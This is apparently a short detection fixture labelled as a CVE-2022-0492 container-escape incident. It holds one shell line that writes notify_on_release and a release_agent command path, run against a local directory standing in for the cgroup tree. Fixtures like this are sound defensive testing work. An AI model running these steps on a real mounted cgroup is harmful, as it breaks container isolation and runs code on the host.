# incident: leaving a container by the agent of control groups (CVE-2022-0492)
# finding: kernel-setting-written
# A directory of ours stands for the mounted tree.
mkdir -p rdma/x; echo 1 > rdma/x/notify_on_release; echo "$PWD/cmd" > rdma/release_agent
